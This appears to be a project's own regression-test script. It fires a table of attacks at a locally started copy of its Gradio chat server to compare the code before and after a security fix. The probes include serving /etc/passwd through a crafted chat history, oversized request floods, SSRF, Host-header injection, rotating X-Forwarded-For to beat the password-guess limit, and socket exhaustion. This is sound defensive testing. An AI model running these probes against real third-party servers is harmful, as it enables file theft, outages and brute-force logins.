"""Issue 10's attacks against one checkout's real server, one line each: the before/after table in
docs/reliability.md. It starts its own server (real model, a temporary copy of the guide, shipped defaults but the
question rate off, so the timing probe's questions aren't refused).

    .venv/bin/python tests/reliability/attacks_table.py                   # this checkout
    git archive 21e6f3c | tar -x -C /tmp/before
    .venv/bin/python tests/reliability/attacks_table.py --root /tmp/before  # the commit before the fix
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import threading
import time
from pathlib import Path

import httpx
import rawhttp
from servers import ROOT, make_server

sys.path.append(str(ROOT / "bench"))
import idle_sockets  # noqa: E402

MB = 1024 * 1024
FILE_PART = {"type": "file", "file": {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}}


def file_read(server) -> str:
    r = httpx.post(f"{server.url}/gradio_api/call/chat", json={"data": ["hi", [{"role": "user", "content": [FILE_PART]}]]},
                   timeout=30)
    if r.status_code != 200:
        return f"{r.status_code} {r.json().get('error', '')[:60]}"
    stream = httpx.get(f"{server.url}/gradio_api/call/chat/{r.json()['event_id']}", timeout=60).text
    urls = [u for u in stream.split('"') if "gradio_api/file=" in u]
    if urls:
        served = httpx.get(urls[0], timeout=30)
        return f"served: {served.status_code}, root: line {'present' if 'root:' in served.text else 'absent'}"
    return "no file (" + stream.splitlines()[0] + ")"


def big(server, path: str, chunked: bool) -> str:
    a = rawhttp.post(server.port, path, 20 * MB, chunked=chunked)
    return f"{a.status or 'no answer'} after {a.sent / MB:.1f} MB sent, {a.seconds:.2f} s"


def six_posts(server) -> str:
    before = server.rss_mb()
    answers = []

    def attack(n: int) -> None:
        answers.append(rawhttp.post(server.port, "/gradio_api/call/ask", 100 * MB, chunked=n >= 3, timeout=120))

    threads = [threading.Thread(target=attack, args=(n,)) for n in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(300)
    time.sleep(2)
    codes = sorted(a.status for a in answers)
    return f"{codes}, RSS {before:.0f} → {server.rss_mb():.0f} MB"


def status(r: httpx.Response) -> str:
    has = "with" if "content-security-policy" in r.headers else "WITHOUT"
    return f"{r.status_code} {r.headers.get('content-type', '').split(';')[0]}, {has} security headers"


def forwarded_for(server) -> str:
    """Wrong staff passwords, each with another X-Forwarded-For: the login guard allows 5 a minute per address."""
    codes = [httpx.get(f"{server.url}/api/staff/search", params={"q": "x"}, auth=("staff", f"guess{n}"), timeout=30,
                       headers={"X-Forwarded-For": f"10.7.{n}.1"}).status_code for n in range(8)]
    return f"limited: 429 from guess {codes.index(429) + 1}" if 429 in codes else "8 guesses, no 429: each a new address"


def host(server) -> str:
    evil = rawhttp.get(server.port, "/config", host="evil.example")
    echoed = rawhttp.get(server.port, "/config", extra={"X-Forwarded-Host": "evil.example"})
    return (f"Host evil.example: {evil.status}, echoed: {b'evil.example' in evil.body}; "
            f"X-Forwarded-Host: {echoed.status}, echoed: {b'evil.example' in echoed.body}")


def probes(server) -> list[tuple[str, object]]:
    url = server.url
    return [
        ("chat history naming /etc/passwd (POST /gradio_api/call/chat)", lambda: file_read(server)),
        ("20 MB Content-Length to /gradio_api/call/ask", lambda: big(server, "/gradio_api/call/ask", False)),
        ("20 MB Content-Length to /gradio_api/queue/join", lambda: big(server, "/gradio_api/queue/join", False)),
        ("20 MB chunked to /gradio_api/queue/join", lambda: big(server, "/gradio_api/queue/join", True)),
        ("20 MB Content-Length to /gradio_api/upload", lambda: big(server, "/gradio_api/upload", False)),
        ("six 100 MB posts at once to /gradio_api/call/ask", lambda: six_posts(server)),
        ("FileData in a /gradio_api/call/ask body", lambda: status(httpx.post(
            f"{url}/gradio_api/call/ask", json={"data": [FILE_PART["file"], []]}, timeout=30))),
        ("multipart upload to /gradio_api/upload", lambda: status(httpx.post(
            f"{url}/gradio_api/upload", files={"files": ("a.txt", b"hi")}, timeout=30))),
        ("SSRF: GET /gradio_api/file=http://127.0.0.1/…", lambda: status(httpx.get(
            f"{url}/gradio_api/file={url}/api/health", timeout=30))),
        ("GET /gradio_api/dev/reload", lambda: _stream_status(url + "/gradio_api/dev/reload")),
        ("POST /gradio_api/call/v2/ask", lambda: status(httpx.post(
            f"{url}/gradio_api/call/v2/ask", json={"data": ["What should I wear?", []]}, timeout=30))),
        ("POST /api/feedback ask_id 2^63 (a 500 today)", lambda: status(httpx.post(
            f"{url}/api/feedback", json={"ask_id": 2**63, "rating": 1}, timeout=30))),
        ("GET /api/health: index", lambda: json.dumps(httpx.get(f"{url}/api/health", timeout=30).json()["index"])),
        ("Host / X-Forwarded-Host into /config", lambda: host(server)),
        ("8 wrong staff passwords from loopback, each with another X-Forwarded-For", lambda: forwarded_for(server)),
        ("1,500 sockets parked on /gradio_api/dev/reload", lambda: _drain(server)),
    ]


def _stream_status(url: str) -> str:
    with httpx.stream("GET", url, timeout=5) as r:
        return f"{r.status_code} {r.headers.get('content-type', '').split(';')[0]}"


def _drain(server) -> str:
    row = idle_sockets.measure(server, "dev-reload", 1500, 30, 6.0)
    return (f"/api/ask p50 {row['idle p50 ms']:.0f} → {row['parked p50 ms']:.0f} ms ({row['ratio']:.1f}×), "
            f"server CPU {row['server CPU %']:.0f} %")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--root", type=Path, default=ROOT, help="the checkout whose app.py to run")
    args = parser.parse_args(argv)
    server = make_server(Path(tempfile.mkdtemp(prefix="attacks-")), trusted_proxies="", rate_limit="0")
    server.root = args.root.resolve()
    server.start()
    try:
        print(f"root: {server.root}")
        for name, probe in probes(server):
            try:
                result = probe()
            except Exception as e:  # noqa: BLE001 - a probe that breaks is a result too
                result = f"{type(e).__name__}: {e}"
            print(f"| {name} | {result} |", flush=True)
    finally:
        server.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
